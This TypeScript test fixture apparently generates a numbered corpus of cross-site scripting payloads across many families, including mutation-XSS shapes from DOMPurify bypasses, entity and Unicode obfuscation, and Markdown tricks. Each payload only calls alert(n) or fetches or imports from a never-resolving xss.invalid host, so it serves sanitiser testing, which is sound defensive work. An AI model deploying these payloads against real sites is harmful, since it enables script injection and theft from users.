// A corpus of hostile strings an analyst might paste into a note, a name or a
// source: script tags, event handlers, javascript:/data: URLs, SVG and MathML
// tricks, CSS that fetches, Markdown link and image tricks, entity-obfuscated
// schemes, mutation-XSS shapes from DOMPurify's bypass history, frames, meta
// refresh, <base>, forms, <link>, <object>, <embed> and Unicode look-alikes.
//
// Every payload, if it ever ran, would leave a trace a test can see: it calls
// alert(n), or requests / navigates to http://xss.invalid/n (.invalid never
// resolves), where n is its number. So a dialog or a request to xss.invalid
// proves that payload n ran, and says which one.
//
// Every payload fits in a Label (≤ 200 characters, no surrounding spaces), so
// each can also be an actor, tag, question or position name.

export const XSS_HOST = 'xss.invalid';

export type Family =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'mutation'
  | 'css'
  | 'markdown'
  | 'entities'
  | 'embedding'
  | 'unicode'
  | 'breakout'
  | 'template';

export interface Payload {
  /** 1-based; the n in alert(n) and http://xss.invalid/n. */
  n: number;
  family: Family;
  text: string;
}

/** What payload n calls when it runs. */
const A = (n: number) => `alert(${n})`;
/** Where payload n goes when it runs. */
const U = (n: number) => `http://${XSS_HOST}/${n}`;
const b64 = (s: string) => btoa(s);

type Template = (n: number) => string;

const CORPUS: [Family, Template[]][] = [
  [
    'script',
    [
      (n) => `<script>${A(n)}</script>`,
      (n) => `<SCRIPT SRC=${U(n)}></SCRIPT>`,
      (n) => `<script>fetch('${U(n)}')</script>`,
      (n) => `<script>location='${U(n)}'</script>`,
      (n) => `<scr<script>ipt>${A(n)}</scr</script>ipt>`,
      (n) => `<script/xss src="${U(n)}"></script>`,
      (n) => `<script type="module">import '${U(n)}'</script>`,
      (n) => `<<script>${A(n)};//<</script>`,
      (n) => `--!><script>${A(n)}</script>`,
      (n) => `<![CDATA[<script>${A(n)}</script>]]>`,
      (n) => `<script src=data:text/javascript,${A(n)}></script>`,
    ],
  ],
  [
    'event-handler',
    [
      (n) => `<img src=x onerror=${A(n)}>`,
      (n) => `<img src="${U(n)}">`,
      (n) => `<img/src=x/onerror=${A(n)}>`,
      (n) => `<svg onload=${A(n)}>`,
      (n) => `<svg/onload=location='${U(n)}'>`,
      (n) => `<body onload=${A(n)}>`,
      (n) => `<body onpageshow=${A(n)}>`,
      (n) => `<input autofocus onfocus=${A(n)}>`,
      (n) => `<select autofocus onfocus=${A(n)}></select>`,
      (n) => `<textarea autofocus onfocus=${A(n)}></textarea>`,
      (n) => `<details open ontoggle=${A(n)}>`,
      (n) => `<video><source onerror=${A(n)}></video>`,
      (n) => `<audio src=x onerror=${A(n)}>`,
      (n) => `<marquee onstart=${A(n)}>scroll</marquee>`,
      (n) => `<div onmouseover=${A(n)} style="position:fixed;inset:0">hover me</div>`,
      (n) => `<x onclick=${A(n)}>click me</x>`,
      (n) => `<a onfocus=${A(n)} tabindex=0 autofocus>focus</a>`,
      (n) => `<iframe onload=${A(n)}></iframe>`,
      (n) => `<object onerror=${A(n)}></object>`,
      (n) => `<image src=x onerror=${A(n)}>`,
      (n) => `<img src=x onerror="fetch('${U(n)}')">`,
      (n) => `<img src=x onerror=import('${U(n)}')>`,
      (n) => `<style onload=${A(n)}></style>`,
      (n) => `<dialog open onclose=${A(n)}><form method=dialog><button>close</button></form></dialog>`,
      (n) => `<button popovertarget=p${n}>x</button><div id=p${n} popover ontoggle=${A(n)}>y</div>`,
      (n) => `<p contenteditable onbeforeinput=${A(n)} onfocus=${A(n)} autofocus>edit</p>`,
    ],
  ],
  [
    'url-scheme',
    [
      (n) => `<a href="javascript:${A(n)}">click</a>`,
      (n) => `<a href="jAvAsCrIpT:${A(n)}">click</a>`,
      (n) => `<a href=" \t javascript:${A(n)}">click</a>`,
      (n) => `<a href="data:text/html,<script>${A(n)}</script>">click</a>`,
      (n) => `<a href="data:text/html;base64,${b64(`<script>${A(n)}</script>`)}">click</a>`,
      (n) => `<iframe src="javascript:${A(n)}"></iframe>`,
      (n) => `<iframe src="data:text/html,<script>fetch('${U(n)}')</script>"></iframe>`,
      (n) => `<object data="javascript:${A(n)}"></object>`,
      (n) => `<embed src="javascript:${A(n)}">`,
      (n) => `<IMG SRC=javascript:${A(n)}>`,
      (n) => `<a href="${U(n)}" target=_top>go</a>`,
      (n) => `<a href=//${XSS_HOST}/${n}>protocol-relative</a>`,
      (n) => `<a href="\\\\${XSS_HOST}\\${n}">backslashes</a>`,
      (n) => `<a href="${U(n)}" ping="${U(n)}">ping</a>`,
    ],
  ],
  [
    'svg-mathml',
    [
      (n) => `<svg><script>${A(n)}</script></svg>`,
      (n) => `<svg><a xlink:href="javascript:${A(n)}"><text x=20 y=20>x</text></a></svg>`,
      (n) => `<svg><a href="javascript:${A(n)}"><rect width=99 height=99 /></a></svg>`,
      (n) => `<svg><animate onbegin=${A(n)} attributeName=x dur=1s>`,
      (n) => `<svg><set attributeName=href to="javascript:${A(n)}" /></svg>`,
      (n) => `<svg><image href="${U(n)}"/></svg>`,
      (n) => `<svg><feImage href="${U(n)}"/></svg>`,
      (n) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${A(n)}"/></svg>`)}#x"/></svg>`,
      (n) => `<svg><foreignObject><iframe src="javascript:${A(n)}"></iframe></foreignObject></svg>`,
      (n) => `<math href="javascript:${A(n)}">CLICK</math>`,
      (n) => `<math><maction actiontype="statusline#" xlink:href="javascript:${A(n)}">CLICK</maction></math>`,
      (n) => `<svg><style>@import url(${U(n)});</style></svg>`,
    ],
  ],
  [
    'mutation',
    [
      // DOMPurify 2.0.0 (Bentkowski): the SVG/HTML namespace confusion around <style>.
      (n) => `<svg></p><style><a id="</style><img src=1 onerror=${A(n)}>">`,
      // DOMPurify 2.0.17: <form> nesting plus <mglyph>/<style> in MathML.
      (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${A(n)}>`,
      (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${A(n)}>`,
      (n) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${A(n)}>">`,
      (n) => `<noscript><p title="</noscript><img src=x onerror=${A(n)}>">`,
      (n) => `<xmp><p title="</xmp><img src=x onerror=${A(n)}>">`,
      (n) => `<noembed><img title="</noembed><img src onerror=${A(n)}>"></noembed>`,
      (n) => `<noframes><p title="</noframes><img src=x onerror=${A(n)}>"></noframes>`,
      (n) => `<iframe><p title="</iframe><img src=x onerror=${A(n)}>"></iframe>`,
      (n) => `<textarea><p title="</textarea><img src=x onerror=${A(n)}>"></textarea>`,
      (n) => `<title><img title="</title><img src onerror=${A(n)}>"></title>`,
      (n) => `<style><style/><img src=x onerror=${A(n)}>`,
      (n) => `<template><img src=x onerror=${A(n)}></template>`,
      (n) => `<div><template shadowrootmode="open"><img src=x onerror=${A(n)}></template></div>`,
      (n) => `<svg><p><style><g title="</style><img src=x onerror=${A(n)}>">`,
      (n) => `<math><style><img src=x onerror=${A(n)}></style></math>`,
      (n) => `<svg><![CDATA[><img src=x onerror=${A(n)}>]]></svg>`,
      (n) => `<div id="x"><!--</div><img src=x onerror=${A(n)}>-->`,
      (n) => `<listing>&lt;img src=x onerror=${A(n)}&gt;</listing>`,
      (n) => `<svg><title><style><img src=x onerror=${A(n)}></style></title></svg>`,
    ],
  ],
  [
    'css',
    [
      (n) => `<div style="background:url(${U(n)})">x</div>`,
      (n) => `<div style="width:expression(${A(n)});background-image:url('${U(n)}')">ie</div>`,
      (n) => `<style>@import '${U(n)}';</style>`,
      (n) => `<style>body{background:url("${U(n)}")}</style>`,
      (n) => `<style>@font-face{font-family:f${n};src:url(${U(n)})}</style><p style="font-family:f${n}">font</p>`,
      (n) => `<div style="behavior:url(${U(n)}.htc);background:url(${U(n)})">htc</div>`,
      (n) => `<link rel=stylesheet href="data:text/css,body{background:url(${U(n)})}">`,
      (n) => `<p style="--x:url(${U(n)});background:var(--x)">var</p>`,
      (n) => `<div style="background:url(&#106;avascript:${A(n)})">x</div>`,
    ],
  ],
  [
    'markdown',
    [
      (n) => `[x](javascript:${A(n)})`,
      (n) => `[x](JaVaScRiPt:${A(n)})`,
      (n) => `[x](&#106;avascript:${A(n)})`,
      (n) => `[x](&#x6A;avascript&#x3A;${A(n)})`,
      (n) => `[x](javascript&colon;${A(n)})`,
      (n) => `[x](<javascript:${A(n)}>)`,
      (n) => `[x](<java\tscript:${A(n)}>)`,
      (n) => `[x](data:text/html;base64,${b64(`<script>${A(n)}</script>`)})`,
      (n) => `![x](${U(n)})`,
      (n) => `![x](javascript:${A(n)})`,
      (n) => `![x"onerror="${A(n)}](x)`,
      (n) => `[x](${U(n)} "t\\"onmouseover=\\"${A(n)}")`,
      (n) => `[x][r${n}]\n\n[r${n}]: javascript:${A(n)}`,
      (n) => `![x][i${n}]\n\n[i${n}]: ${U(n)}`,
      (n) => `<javascript:${A(n)}>`,
      (n) => `<${U(n)}>`,
      (n) => `[<img src=x onerror=${A(n)}>](https://example.org/)`,
      (n) => `# <img src=x onerror=${A(n)}>`,
      (n) => `| a |\n|---|\n| [x](javascript:${A(n)}) <img src=x onerror=${A(n)}> |`,
      (n) => `<div>\n<img src=x onerror=${A(n)}>\n</div>`,
      (n) => `[x](//${XSS_HOST}/${n})`,
      (n) => `![x](//${XSS_HOST}/${n})`,
      (n) => `\`\`\`html"><img src=x onerror=${A(n)}>\n<script>${A(n)}</script>\n\`\`\``,
      (n) => `- [ ] <input type=image src="${U(n)}"> task`,
      (n) => `[x](javascript:alert&#40;${n}&#41;)`,
    ],
  ],
  [
    'entities',
    [
      (n) => `<a href="&#106;avascript:${A(n)}">x</a>`,
      (n) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${A(n)}">x</a>`,
      (n) => `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${A(n)}">x</a>`,
      (n) => `<a href="javas&#99;ript:${A(n)}">x</a>`,
      (n) => `<a href="javascript&colon;${A(n)}">x</a>`,
      (n) => `<a href="jav&#x09;ascript:${A(n)}">x</a>`,
      (n) => `<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(${n})>`,
      (n) => `&lt;script&gt;${A(n)}&lt;/script&gt;`,
      (n) => `&amp;lt;img src=x onerror=${A(n)}&amp;gt;`,
      (n) => `<a href="&#x20;&#x0E;javascript:${A(n)}">x</a>`,
    ],
  ],
  [
    'embedding',
    [
      (n) => `<iframe srcdoc="<script>${A(n)}</script>"></iframe>`,
      (n) => `<iframe srcdoc="&lt;img src=x onerror=${A(n)}&gt;"></iframe>`,
      (n) => `<iframe src="${U(n)}"></iframe>`,
      (n) => `<iframe src=//${XSS_HOST}/${n}></iframe>`,
      (n) => `<meta http-equiv="refresh" content="0;url=${U(n)}">`,
      (n) => `<meta http-equiv="refresh" content="0;url=javascript:${A(n)}">`,
      (n) => `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${A(n)}</script>`,
      (n) => `<base href="${U(n)}/">`,
      (n) => `<form action="${U(n)}"><button>Submit</button></form>`,
      (n) => `<form action="javascript:${A(n)}"><input type=submit value=go></form>`,
      (n) => `<button form=f formaction="javascript:${A(n)}">go</button>`,
      (n) => `<link rel=import href="${U(n)}">`,
      (n) => `<link rel=prefetch href="${U(n)}">`,
      (n) => `<link rel=preload href="${U(n)}" as=script>`,
      (n) => `<object data="${U(n)}"></object>`,
      (n) => `<object data="data:text/html,<script>${A(n)}</script>"></object>`,
      (n) => `<embed src="${U(n)}">`,
      (n) => `<portal src="${U(n)}"></portal>`,
      (n) => `<frameset onload=${A(n)}>`,
      (n) => `<img srcset="${U(n)} 1x">`,
      (n) => `<picture><source srcset="${U(n)}"><img alt=p></picture>`,
      (n) => `<video poster="${U(n)}"></video>`,
      (n) => `<input type="image" src="${U(n)}">`,
      (n) => `<table background="${U(n)}"><tr><td>t</td></tr></table>`,
      (n) => `<track src="${U(n)}">`,
      (n) => `<?xml-stylesheet href="${U(n)}"?>`,
      (n) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${U(n)}">]><x>&e;</x>`,
    ],
  ],
  [
    'unicode',
    [
      (n) => `＜script＞${A(n)}＜/script＞`,
      (n) => `<a href="ｊａｖａｓｃｒｉｐｔ:${A(n)}">fullwidth</a>`,
      (n) => `<ſcript>${A(n)}</ſcript>`,
      (n) => `<a href="java\u200Bscript:${A(n)}">zero width</a>`,
      (n) => `[x](java\u200Dscript:${A(n)})`,
      (n) => `<a href="\u0001javascript:${A(n)}">control</a>`,
      (n) => `[x](\u0001javascript:${A(n)})`,
      (n) => `<a href="javascript:${A(n)}">\u202Egnp.exe</a>`,
      (n) => `<img src=x one\u0000rror=${A(n)}>`,
      (n) => `<img src=x onerror=${A(n)}\u2028>`,
      (n) => `+ADw-script+AD4-${A(n)}+ADw-/script+AD4-`,
      (n) => `%3Cscript%3E${A(n)}%3C%2Fscript%3E`,
      (n) => `\\x3cscript\\x3e${A(n)}\\x3c/script\\x3e`,
      (n) => `<scrip\u0308t>${A(n)}</scrip\u0308t>`,
    ],
  ],
  [
    'breakout',
    [
      (n) => `"><script>${A(n)}</script>`,
      (n) => `'><img src=x onerror=${A(n)}>`,
      (n) => `</textarea><script>${A(n)}</script>`,
      (n) => `</title><script>${A(n)}</script>`,
      (n) => `</style><img src=x onerror=${A(n)}>`,
      (n) => `</script><script>${A(n)}</script>`,
      (n) => `" onmouseover="${A(n)}" x="`,
      (n) => `' autofocus onfocus='${A(n)}`,
      (n) => `]]><script>${A(n)}</script>`,
      (n) => `</w:t></w:r><w:fldSimple w:instr="HYPERLINK &quot;${U(n)}&quot;"/><w:r><w:t>`,
      (n) => `-->\n<script>${A(n)}</script>`,
    ],
  ],
  [
    'template',
    [
      (n) => `{{constructor.constructor('${A(n)}')()}}`,
      (n) => `\${${A(n)}}`,
      (n) => `<%= ${A(n)} %>`,
      (n) => `{{#with "s" as |string|}}{{${A(n)}}}{{/with}}`,
    ],
  ],
];

export const PAYLOADS: readonly Payload[] = CORPUS.flatMap(([family, templates]) => templates.map((t) => ({ family, t }))).map(({ family, t }, i) => ({
  n: i + 1,
  family,
  text: t(i + 1),
}));

/** The payload a request to xss.invalid came from, if it did. */
export function payloadOfUrl(url: string): number | undefined {
  try {
    const u = new URL(url);
    if (u.hostname !== XSS_HOST) return undefined;
    const n = Number(/^\/(\d+)/.exec(u.pathname)?.[1]);
    return Number.isInteger(n) ? n : undefined;
  } catch {
    return undefined;
  }
}

/** Payloads per family, for reports. */
export function familyCounts(): Record<Family, number> {
  const counts = {} as Record<Family, number>;
  for (const p of PAYLOADS) counts[p.family] = (counts[p.family] ?? 0) + 1;
  return counts;
}
